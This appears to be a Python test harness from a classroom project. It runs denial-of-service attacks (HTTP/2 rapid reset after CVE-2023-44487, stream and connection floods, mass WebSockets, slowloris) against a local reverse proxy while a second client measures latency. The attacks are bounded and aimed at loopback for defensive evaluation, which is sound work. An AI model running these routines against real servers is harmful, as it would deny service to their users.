"""Attack a classroom front on loopback and watch what a classmate gets meanwhile: `python -m tools.front_attacks`.

`python -m tools.front_attacks --url https://localhost:8443 --box http://127.0.0.1:8000 rapid-reset streams ...`
runs each named attack (bounded in requests and seconds) from 127.0.0.2 while a classmate on
127.0.0.3 asks `/health` every 0.25 s and sends a ② review every second over its own HTTP/2
connection, as a page would. Both addresses are loopback, so the front keys them as two clients.
It prints one JSON line per attack: what the attacker got, and the classmate's statuses and
slowest answers (status 0: no answer within 10 s). `refusals` is the class's ② burst: 12 pages
(127.0.0.10-21) × 12 at once, as streams or as connections; it reports the 429s' latency.
"""

import argparse
import asyncio
import contextlib
import itertools
import json
import multiprocessing
import os
import resource
import ssl
import statistics
import time
from collections import Counter
from collections.abc import Callable, Coroutine
from multiprocessing.queues import Queue
from multiprocessing.synchronize import Event as EventType
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import httpx
from websockets.asyncio.client import connect

from kit.h2wire import Answer, H2Client, insecure_context
from kit.serverproc import wait_healthy
from tools.front_candidates import NAMES, candidate

ATTACKER, CLASSMATE = "127.0.0.2", "127.0.0.3"
PAGES = [f"127.0.0.{10 + i}" for i in range(12)]
RUN = os.urandom(4).hex()  # every review is new: the box's cache must not answer any of them
COUNT = itertools.count()


def review() -> bytes:
    return json.dumps({"text": f"배송이 빠르고 포장이 꼼꼼했어요. 다음에도 살게요. {RUN}-{next(COUNT)}"}).encode()


PROBE_LIMIT_S = 10.0
LIMITED = "/api/limited/predict"


class Classmate:
    """A page on its own connection: /health every 0.25 s, a ② review every second; every answer kept."""

    def __init__(self, host: str, port: int) -> None:
        self.host, self.port = host, port
        self.seen: list[tuple[str, int, float]] = []  # (what, status, seconds); status 0 = none in time
        self._client: H2Client | None = None
        self._tasks: set[asyncio.Task[None]] = set()

    async def _connection(self) -> H2Client:
        if self._client is None or self._client.closed.is_set() or self._client.goaway_at is not None:
            self._client = await H2Client.open(self.host, self.port, CLASSMATE)
        return self._client

    async def _ask(self, what: str, method: str, path: str, body: bytes | None) -> None:
        started = time.perf_counter()
        try:
            client = await asyncio.wait_for(self._connection(), PROBE_LIMIT_S)
            answer = await client.request(method, path, body, limit_s=PROBE_LIMIT_S)
            status = answer.status
        except (OSError, TimeoutError, ssl.SSLError):
            status = 0
        self.seen.append((what, status, time.perf_counter() - started))

    async def run(self, stop: asyncio.Event) -> None:
        tick = 0
        while not stop.is_set():
            calls = [("health", "GET", "/health", None)]
            if tick % 4 == 0:
                calls.append(("limited", "POST", "/api/limited/predict", None))
            for what, method, path, body in calls:
                task = asyncio.create_task(self._ask(what, method, path, review() if method == "POST" else body))
                self._tasks.add(task)
                task.add_done_callback(self._tasks.discard)
            tick += 1
            with contextlib.suppress(TimeoutError):
                await asyncio.wait_for(stop.wait(), 0.25)
        if self._tasks:
            await asyncio.wait(self._tasks)
        if self._client is not None:
            await self._client.close()

    def summary(self) -> dict[str, Any]:
        out: dict[str, Any] = {}
        for what in ("health", "limited"):
            rows = [(status, seconds) for w, status, seconds in self.seen if w == what]
            if rows:
                out[what] = {
                    "statuses": dict(Counter(str(s) for s, _ in rows)),
                    "slowest_s": round(max(s for _, s in rows), 3),
                    "median_s": round(statistics.median(s for _, s in rows), 3),
                }
        return out


def percentile(values: list[float], p: float) -> float:
    ordered = sorted(values)
    return round(ordered[min(len(ordered) - 1, round(p * (len(ordered) - 1)))], 3) if ordered else 0.0


async def rapid_reset(host: str, port: int, pairs: int) -> dict[str, Any]:
    """CVE-2023-44487's shape: HEADERS + RST_STREAM `pairs` times on one connection, then on new ones, for 20 s."""
    started, sent, connections, goaways = time.perf_counter(), 0, 0, 0
    while sent < pairs and time.perf_counter() - started < 20:
        try:
            client = await H2Client.open(host, port, ATTACKER)
        except OSError:
            await asyncio.sleep(0.1)
            continue
        connections += 1
        sent += await client.rapid_reset(pairs - sent, "/health")
        with contextlib.suppress(TimeoutError):
            await asyncio.wait_for(client.closed.wait(), 1.0)
        goaways += client.goaway_at is not None
        await client.close()
    return {"pairs_sent": sent, "connections": connections, "goaways": goaways}


async def streams(host: str, port: int, n: int, path: str = "/api/naive/predict") -> dict[str, Any]:
    """`n` ① reviews on one HTTP/2 connection at once (as many streams as the front lets run together)."""
    client = await H2Client.open(host, port, ATTACKER)
    answers = await asyncio.gather(*(client.request("POST", path, review(), limit_s=60) for _ in range(n)))
    limit = client.conn.remote_settings.max_concurrent_streams
    await client.close()
    return {"streams": n, "peer_max_concurrent_streams": limit, "statuses": statuses(answers)}


async def connections(host: str, port: int, n: int, path: str = "/api/naive/predict") -> dict[str, Any]:
    """`n` connections from one address, each sending one ① review."""

    async def one() -> Answer:
        try:
            client = await H2Client.open(host, port, ATTACKER)
        except OSError:
            return Answer(reset=True)
        try:
            return await client.request("POST", path, review(), limit_s=60)
        finally:
            await client.close()

    answers = await asyncio.gather(*(one() for _ in range(n)))
    return {"connections": n, "statuses": statuses(answers)}


async def websockets(url: str, n: int, hold_s: float) -> dict[str, Any]:
    """`n` live-panel WebSockets from one address, held `hold_s` seconds."""
    target = url.replace("https://", "wss://").replace("http://", "ws://") + "/api/stats/live"
    context = insecure_context(["http/1.1"]) if target.startswith("wss") else None
    outcome: Counter[str] = Counter()
    release = asyncio.Event()

    async def one() -> None:
        try:
            async with connect(target, ssl=context, local_addr=(ATTACKER, 0), open_timeout=20) as socket:
                await socket.recv()
                outcome["open"] += 1
                await release.wait()
        except Exception as exc:
            outcome[type(exc).__name__] += 1

    tasks = [asyncio.create_task(one()) for _ in range(n)]
    await asyncio.sleep(hold_s)
    release.set()
    await asyncio.wait(tasks, timeout=30)
    return {"websockets": n, "outcome": dict(outcome)}


async def slowloris(host: str, port: int, n: int, watch_s: float) -> dict[str, Any]:
    """`n` TLS connections that send a request head one header line every 5 s; when did the front close each
    (seconds from its own handshake), and how many were still open after `watch_s`."""
    closed_after: list[float] = []
    refused = 0

    async def one() -> None:
        nonlocal refused
        try:
            reader, writer = await asyncio.open_connection(
                host, port, ssl=insecure_context(["http/1.1"]), server_hostname="localhost", local_addr=(ATTACKER, 0)
            )
        except (OSError, ssl.SSLError):
            refused += 1
            return
        connected = time.perf_counter()
        try:
            writer.write(b"GET /health HTTP/1.1\r\nHost: localhost\r\n")
            for i in range(int(watch_s // 5) + 1):
                with contextlib.suppress(TimeoutError):
                    if not await asyncio.wait_for(reader.read(1024), 5):
                        raise ConnectionResetError
                writer.write(f"X-Slow-{i}: 1\r\n".encode())
                await writer.drain()
        except (OSError, ssl.SSLError):
            closed_after.append(time.perf_counter() - connected)
        finally:
            writer.close()

    await asyncio.gather(*(one() for _ in range(n)))
    return {
        "connections": n,
        "refused_at_connect": refused,
        "closed_by_front": len(closed_after),
        "closed_median_s": round(statistics.median(closed_after), 1) if closed_after else None,
        "closed_max_s": round(max(closed_after), 1) if closed_after else None,
    }


async def refusals(host: str, port: int, shape: str) -> dict[str, Any]:
    """The class's ② burst: 12 pages × 12 at once; `shape` streams (one connection a page) or connections (144)."""
    # Connections are opened together, as pages open theirs: one left idle past the front's header
    # timeout (10 s) before its first request is closed by it, which a browser never sees.
    per_page = 1 if shape == "streams" else 12
    clients = await asyncio.gather(*(H2Client.open(host, port, page) for page in PAGES for _ in range(per_page)))
    each = 12 // per_page
    calls = [client.request("POST", LIMITED, review(), limit_s=120) for client in clients for _ in range(each)]
    answers = await asyncio.gather(*calls)
    for client in clients:
        await client.close()
    refused = [a.seconds for a in answers if a.status == 429]
    return {
        "shape": shape,
        "statuses": statuses(answers),
        "refusal_p50_s": percentile(refused, 0.5),
        "refusal_p99_s": percentile(refused, 0.99),
        "refusal_max_s": percentile(refused, 1.0),
    }


def statuses(answers: list[Answer]) -> dict[str, int]:
    return dict(Counter("reset" if a.reset and not a.status else str(a.status) for a in answers))


def classmate_process(host: str, port: int, stop: "EventType", out: "Queue[dict[str, Any]]") -> None:
    """The classmate in a process of its own: the attacker's own CPU work must not delay the classmate's reads."""

    async def run() -> dict[str, Any]:
        classmate, stopped = Classmate(host, port), asyncio.Event()

        async def watch() -> None:
            await asyncio.to_thread(stop.wait)
            stopped.set()

        watcher = asyncio.create_task(watch())
        await classmate.run(stopped)
        await watcher
        return classmate.summary()

    out.put(asyncio.run(run()))


def watched(url: str, attack: Callable[[], Coroutine[Any, Any, dict[str, Any]]], log: Path | None) -> dict[str, Any]:
    parts = urlsplit(url)
    host, port = parts.hostname or "127.0.0.1", parts.port or 443
    size = log_size(log)
    context = multiprocessing.get_context("spawn")
    stop, out = context.Event(), context.Queue()
    watcher = context.Process(target=classmate_process, args=(host, port, stop, out), daemon=True)
    watcher.start()
    time.sleep(2)  # the classmate is connected and asking before the attack starts
    started = time.perf_counter()
    result = asyncio.run(attack())
    result["attack_s"] = round(time.perf_counter() - started, 1)
    time.sleep(2)
    stop.set()
    result["classmate"] = dict(out.get(timeout=60))
    watcher.join(10)
    if log is not None:
        result["front_log_grew_bytes"] = log_size(log) - size
    return result


def log_size(log: Path | None) -> int:
    return log.stat().st_size if log is not None and log.exists() else 0


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--url", default="https://localhost:8443", help="a running front")
    parser.add_argument("--candidate", choices=NAMES, help="start this front before --box instead (on --port)")
    parser.add_argument("--box", default="http://127.0.0.1:8000", help="the box behind --candidate")
    parser.add_argument("--port", type=int, default=8444, help="the candidate's port")
    parser.add_argument("--log", type=Path, default=None, help="a running front's log file, to report its growth")
    parser.add_argument("--rapid-pairs", type=int, default=20_000)
    parser.add_argument("--websockets", type=int, default=1000)
    parser.add_argument("--streams", type=int, default=250)
    parser.add_argument("--connections", type=int, default=200)
    parser.add_argument("--slowloris", type=int, default=500)
    names = ["rapid-reset", "websockets", "streams", "connections", "slowloris", "refusals-streams", "refusals-conns"]
    parser.add_argument("attacks", nargs="*", choices=[*names, []], help="default: all, in this order")
    args = parser.parse_args()
    args.attacks = args.attacks or names
    resource.setrlimit(resource.RLIMIT_NOFILE, (8192, resource.getrlimit(resource.RLIMIT_NOFILE)[1]))
    if args.candidate:
        with candidate(args.candidate, args.box, args.port) as (url, log):
            run_all(args, url, log)
    else:
        run_all(args, args.url, args.log)


def run_all(args: argparse.Namespace, url: str, log: Path | None) -> None:
    parts = urlsplit(url)
    host, port = parts.hostname or "127.0.0.1", parts.port or 443
    attacks: dict[str, Callable[[], Coroutine[Any, Any, dict[str, Any]]]] = {
        "rapid-reset": lambda: rapid_reset(host, port, args.rapid_pairs),
        "websockets": lambda: websockets(url, args.websockets, hold_s=15),
        "streams": lambda: streams(host, port, args.streams),
        "connections": lambda: connections(host, port, args.connections),
        "slowloris": lambda: slowloris(host, port, args.slowloris, watch_s=25),
        "refusals-streams": lambda: refusals(host, port, "streams"),
        "refusals-conns": lambda: refusals(host, port, "connections"),
    }
    for name in args.attacks:
        settle(url)
        result = watched(url, attacks[name], log)
        at = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime())
        print(json.dumps({"front": args.candidate or url, "attack": name, "at": at, **result}), flush=True)


def settle(url: str, limit_s: float = 180.0) -> None:
    """Before an attack: the box answers /health and runs nothing (a box killed by ① is back, ①'s leftovers done)."""
    deadline = time.monotonic() + limit_s
    while (left_s := deadline - time.monotonic()) > 0:
        wait_healthy(url, limit_s=left_s, verify=False)
        with contextlib.suppress(httpx.HTTPError, KeyError, ValueError):
            paths = httpx.get(f"{url}/api/stats", verify=False, timeout=5).json()["paths"]
            if all(p["in_flight"] == 0 and p["waiting"] == 0 for p in paths.values()):
                time.sleep(3)  # the front's per-client counters and rates drain
                return
        time.sleep(1)


if __name__ == "__main__":
    main()
